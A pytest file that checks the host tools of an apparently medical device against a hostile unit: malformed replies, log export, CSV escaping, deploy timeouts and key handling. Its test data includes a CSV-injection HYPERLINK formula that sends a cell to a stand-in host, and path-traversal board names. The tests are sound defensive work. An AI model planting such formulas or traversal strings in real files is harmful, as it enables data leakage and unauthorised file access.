"""Host tools against a hostile or broken unit (security/faults issue, the record part, item 4).

- `log export` ends against a unit whose log keeps growing: it reads up to the total the unit
  reported at the start.
- A malformed reply (not JSON, wrong shapes, missing fields) is a clear LinkError, and the CLI
  prints one line and exits 1 -- never a Python traceback.
- CSV export: a cell that a spreadsheet would read as a formula (OWASP CSV injection: leading
  = + - @ tab CR) is written as text (a leading ').
- `druglib verify FILE` verifies FILE.
- `deploy` gives up on a silent port (every wait has a timeout, the raw-REPL entry too) and takes a
  board only from firmware/boards/*.
- `python -m emulator.live --flash DIR` uses DIR/unit.key when it is provisioned (the public
  development key is then refused) and says where its key comes from.
"""
import csv
import io
import json
import os
import threading
import time

import pytest

from emulator import live as _live
from host_tools import cli, export, link


class FakeClient(link.Client):
    """A Client whose unit is a function: request(word, **kw) -> reply text (or RemoteError)."""

    def __init__(self, answer):
        link.Client.__init__(self, ser=None)
        self.answer = answer
        self.requests = 0

    def request(self, word, *pos, **kw):
        self.requests += 1
        if self.requests > 2000:
            raise AssertionError("the client never stopped asking (%d requests)" % self.requests)
        return self.answer(word, kw)

    def close(self):
        pass


def growing_log(word, kw):
    # a unit being used while the export runs: two new events per page read
    start = int(kw.get("from", 0))
    growing_log.total += 2
    evs = [{"type": "note", "t": 100 + i, "text": "n%d" % i} for i in range(start, min(start + 3, growing_log.total))]
    return json.dumps({"from": start, "total": growing_log.total, "next": start + len(evs), "events": evs})


def test_log_export_is_bounded_by_the_total_at_start():
    growing_log.total = 10
    c = FakeClient(growing_log)
    rows = c.log()
    assert [s for s, _ in rows] == list(range(12))  # the total the first page reported
    assert c.requests <= 5


MALFORMED = {
    "not json": "this is not json",
    "a list": "[1, 2]",
    "total not a number": '{"from":0,"total":"x","next":1,"events":[]}',
    "events not a list": '{"from":0,"total":3,"next":1,"events":{"a":1}}',
    "event without a type": '{"from":0,"total":1,"next":1,"events":[{"t":5}]}',
    "event time not a number": '{"from":0,"total":1,"next":1,"events":[{"type":"note","t":"soon"}]}',
    "missing total": '{"from":0,"next":1,"events":[]}',
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_malformed_log_page_is_a_clear_link_error(case):
    c = FakeClient(lambda word, kw: MALFORMED[case])
    with pytest.raises(link.LinkError) as e:
        c.log()
    assert "LOG" in str(e.value) and "malformed" in str(e.value)


def test_malformed_status_and_challenge_replies_are_link_errors():
    c = FakeClient(lambda word, kw: "{not json")
    with pytest.raises(link.LinkError):
        c.status()
    with pytest.raises(link.LinkError):
        c.stats()
    c = FakeClient(lambda word, kw: "nonce=zz")  # no unit=, nonce not hex
    with pytest.raises(link.LinkError):
        c.login(b"k" * 32)
    c = FakeClient(lambda word, kw: "off=0 size=many sha256=00 data=!!")
    with pytest.raises(link.LinkError):
        c.get_druglib()


def test_cli_log_export_on_a_malformed_reply_prints_one_line_and_exits_1(monkeypatch, capsys):
    monkeypatch.setattr(link, "client_from_args",
                        lambda args, on_event=None: FakeClient(
                            lambda word, kw: "proto=1 unit=X" if word == "HELLO" else "garbage{"))
    rc = cli.main(["log", "export", "emu://x", "--format", "csv"])
    err = capsys.readouterr().err
    assert rc == 1 and "Traceback" not in err and err.startswith("statim log export: ") and err.count("\n") == 1, err


def test_csv_cells_that_look_like_formulas_are_written_as_text():
    evil = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    rows = [(i, {"type": "note", "t": 100 + i, "text": s}) for i, s in enumerate(evil)]
    rows.append((len(evil), {"type": "note", "t": 200, "text": "fine text"}))
    rows.append((len(evil) + 1, {"type": "weight", "t": 201, "grams": 70000}))
    out = list(csv.DictReader(io.StringIO(export.to_csv(rows), newline="")))
    for r, s in zip(out, evil):
        assert r["value"] == "'" + s, r  # a note's text is its value (docs/log-csv.md)
    assert out[len(evil)]["value"] == "fine text"
    assert out[-1]["value"] == "70 kg" and out[-1]["t"] == "201"  # numbers stay numbers


def test_druglib_verify_checks_the_file_it_is_given(tmp_path, capsys):
    from firmware.core import druglib

    good = druglib.default_path()
    doc = json.load(open(good, encoding="utf-8"))
    doc["version"] = doc["version"] + "-tampered"  # the seal no longer matches
    bad = tmp_path / "tampered.json"
    bad.write_text(json.dumps(doc), encoding="utf-8")
    assert cli.main(["druglib", "verify", str(bad)]) == 1
    assert "NOT VERIFIED" in capsys.readouterr().err
    assert cli.main(["druglib", "verify", good]) == 0
    assert good in capsys.readouterr().out
    assert cli.main(["druglib", "verify", str(bad), good]) == 2  # one file at a time


def test_deploy_takes_a_board_only_from_firmware_boards():
    from host_tools.commands import deploy

    assert deploy.plan("rp2_pico")
    for bad in ("../../..", "..", "../boards/rp2_pico", "/etc", "rp2_pico/../..", ""):
        with pytest.raises(deploy.DeployError):
            deploy.plan(bad)


def test_deploy_gives_up_on_a_silent_port(capsys):
    import pty

    master, slave = pty.openpty()
    port = os.ttyname(slave)
    done = {}

    def go():
        done["rc"] = cli.main(["deploy", port, "--timeout", "0.3"])

    t0 = time.monotonic()
    th = threading.Thread(target=go, daemon=True)
    th.start()
    th.join(60)
    try:
        assert not th.is_alive(), "deploy still waiting on a silent port after 60 s"
        assert done["rc"] == 1
        err = capsys.readouterr().err
        assert "statim deploy:" in err and "Traceback" not in err
        assert time.monotonic() - t0 < 30
    finally:
        os.close(master)
        os.close(slave)


def test_live_emulator_honours_a_provisioned_key(tmp_path):
    from firmware.core import auth

    flash = tmp_path / "flash"
    flash.mkdir()
    key = bytes(range(32))
    (flash / _live.KEY_FILE).write_text(key.hex() + "\n")
    unit = _live.LiveUnit(uart="pipe", flash_dir=str(flash))
    assert unit.link.key == key
    assert "provisioned" in unit.key_source and str(flash) in unit.key_source
    assert _live.key_note(unit).startswith("maintenance key: ")
    # without unit.key: the public development key, and it says so
    other = _live.LiveUnit(uart="pipe", flash_dir=str(tmp_path / "fresh"))
    assert other.link.key == _live.DEV_KEY and "public development key" in other.key_source
    # a unit.key that cannot be read: no key at all, never the public one
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken" / _live.KEY_FILE).write_text("not hex")
    broken = _live.LiveUnit(uart="pipe", flash_dir=str(tmp_path / "broken"))
    assert broken.link.key is None and "unreadable" in broken.key_source
    assert auth.login_mac  # the login itself is covered below, over the link


def test_live_emulator_with_a_provisioned_key_refuses_the_development_key(tmp_path):
    flash = tmp_path / "flash"
    flash.mkdir()
    key = bytes(range(1, 33))
    (flash / _live.KEY_FILE).write_text(key.hex())
    unit = _live.LiveUnit(uart="pipe", flash_dir=str(flash), name="provisioned-key-test").start()
    try:
        from host_tools import protocol_emu

        protocol_emu._units["provisioned-key-test"] = unit
        with link.open_link("emu://provisioned-key-test", timeout=2.0) as c:
            with pytest.raises(link.RemoteError) as e:
                c.login(_live.DEV_KEY)
            assert e.value.code == "DENIED"
            c.login(key)
            c.logout()
    finally:
        protocol_emu._units.pop("provisioned-key-test", None)
        unit.stop()


def test_cli_status_on_a_malformed_status_prints_one_line_and_exits_1(monkeypatch, capsys):
    replies = {"HELLO": "proto=1 unit=X", "STATUS": '{"weight_g":"heavy","alarms":[5]}'}
    monkeypatch.setattr(link, "client_from_args",
                        lambda args, on_event=None: FakeClient(lambda word, kw: replies[word]))
    rc = cli.main(["status", "emu://x"])
    err = capsys.readouterr().err
    assert rc == 1 and "Traceback" not in err and err.startswith("statim status: malformed"), err
